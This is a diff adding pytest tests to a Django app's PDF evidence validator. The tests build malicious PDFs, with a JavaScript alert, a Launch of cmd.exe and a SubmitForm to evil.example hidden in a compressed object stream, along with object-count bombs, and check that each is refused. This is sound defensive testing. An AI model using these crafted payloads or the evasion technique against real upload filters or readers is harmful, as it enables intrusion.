@@ -16,7 +16,7 @@ from django.urls import reverse
 from django.utils import translation
 from PIL import Image
 
-from complaints.evidence import MAX_PIXELS, check_file, check_files, check_pdf
+from complaints.evidence import MAX_PDF_OBJECTS, MAX_PIXELS, check_file, check_files, check_pdf
 from complaints.models import Complaint
 from tests.complaints.factories import PDF, form_data, image_bytes, pdf_document, upload
 
@@ -188,3 +188,126 @@ def test_a_script_inside_a_stream_is_not_taken_for_active_content():
         b"<< /Length %d >>\nstream\n%s\nendstream" % (len(page_text), page_text),
     )
     check_pdf(document, "receipt.pdf")
+
+
+def objects_in_an_object_stream(action: bytes, *, declared: int = 1) -> bytes:
+    """A PDF whose catalog opens with object 4, an action kept compressed in an object stream
+    (PDF 1.5), with a cross-reference stream saying where it is: the pentest's objstm.pdf
+    (/tmp/atk/mkpdf.py), with the action as a parameter; ``declared`` is the count of objects
+    the stream says it holds."""
+    document = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+    offsets = {}
+
+    def add(number: int, body: bytes) -> None:
+        offsets[number] = len(document)
+        document.extend(b"%d 0 obj\n%s\nendobj\n" % (number, body))
+
+    add(1, b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>")
+    add(2, b"<</Type/Pages/Kids[3 0 R]/Count 1>>")
+    add(3, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>")
+    header = b"4 0 "
+    packed = zlib.compress(header + action)
+    add(
+        5,
+        b"<</Type/ObjStm/N %d/First %d/Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream"
+        % (declared, len(header), len(packed), packed),
+    )
+    xref_at = len(document)
+    rows = struct.pack(">BIH", 0, 0, 65535)
+    rows += b"".join(struct.pack(">BIH", 1, offsets[n], 0) for n in (1, 2, 3))
+    rows += struct.pack(">BIH", 2, 5, 0) + struct.pack(">BIH", 1, offsets[5], 0)
+    rows += struct.pack(">BIH", 1, xref_at, 0)
+    packed_rows = zlib.compress(rows)
+    document.extend(
+        b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Filter/FlateDecode/Length %d>>\n"
+        b"stream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n"
+        % (len(packed_rows), packed_rows, xref_at)
+    )
+    return bytes(document)
+
+
+@pytest.mark.parametrize(
+    "action",
+    [
+        b"<</S/JavaScript/JS(app.alert\\('pwned'\\))>>",
+        b"<</S/Launch/F(cmd.exe)>>",
+        b"<</S/SubmitForm/F(http://evil.example/)>>",
+        b"<</S/GoToR/F(other.pdf)/D[0/Fit]>>",
+        b"<</S/GoToE/D[0/Fit]>>",
+        b"<</S/ImportData/F(data.fdf)>>",
+    ],
+)
+def test_active_content_compressed_in_an_object_stream_is_refused(action):
+    """The attack of finding F1: the action sat in a Flate-compressed object stream, which the
+    byte patterns never saw."""
+    document = objects_in_an_object_stream(action)
+    assert pypdf.PdfReader(io.BytesIO(document)).trailer["/Root"]["/OpenAction"]["/S"]
+    with translation.override("en"), pytest.raises(ValidationError) as refused:
+        check_pdf(document, "invoice.pdf")
+    assert "active content" in messages_of(refused.value)
+
+
+def test_an_open_action_that_only_says_where_to_open_passes():
+    document = pdf_document(
+        b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
+    )
+    check_pdf(document, "receipt.pdf")
+
+
+def test_an_object_stream_without_active_content_passes():
+    """Compressed objects as such are fine: here the opening place, page 1 fitted."""
+    check_pdf(objects_in_an_object_stream(b"[3 0 R/Fit]"), "receipt.pdf")
+
+
+@pytest.mark.parametrize(
+    "active",
+    [
+        b"<< /Type /Catalog /AA << /O 2 0 R >> >>",
+        b"<< /Type /Catalog /AcroForm << /XFA (x) >> >>",
+        b"<< /Type /Annot /Subtype /RichMedia >>",
+        b"<< /Type /EmbeddedFile /Length 0 >>",
+    ],
+)
+def test_automatic_actions_xfa_multimedia_and_attached_files_are_refused(active):
+    document = pdf_document(
+        b"<< /Type /Catalog /Pages 3 0 R /Extra 2 0 R >>",
+        active,
+        b"<< /Type /Pages /Kids [] /Count 0 >>",
+    )
+    with translation.override("en"), pytest.raises(ValidationError) as refused:
+        check_pdf(document, "receipt.pdf")
+    assert "active content" in messages_of(refused.value)
+
+
+def test_a_pdf_that_pypdf_cannot_read_is_refused_as_damaged_in_both_languages():
+    # Well formed on the outside, but the root is no dictionary and the page tree is missing.
+    document = pdf_document(b"(just a string)")
+    with translation.override("en"), pytest.raises(ValidationError) as english:
+        check_pdf(document, "receipt.pdf")
+    assert "damaged" in messages_of(english.value)
+    with translation.override("zh-hans"), pytest.raises(ValidationError) as chinese:
+        check_pdf(document, "receipt.pdf")
+    assert messages_of(chinese.value) != messages_of(english.value)
+
+
+@pytest.mark.parametrize(
+    "document",
+    [
+        # More objects than any receipt: pypdf would parse them all at a few seconds a 100,000.
+        pdf_document(
+            b"<< /Type /Catalog /Pages 2 0 R >>",
+            b"<< /Type /Pages /Kids [] /Count 0 >>",
+            *[b"<< /A %d >>" % n for n in range(MAX_PDF_OBJECTS)],
+        ),
+        # An object stream that says it holds a million.
+        objects_in_an_object_stream(b"[3 0 R/Fit]", declared=1_000_000),
+    ],
+)
+def test_a_pdf_with_far_too_many_objects_is_refused_before_they_are_parsed(document):
+    started = time.perf_counter()
+    with translation.override("en"), pytest.raises(ValidationError) as refused:
+        check_pdf(document, "receipt.pdf")
+    assert "far too complex" in messages_of(refused.value)
+    assert time.perf_counter() - started < 1
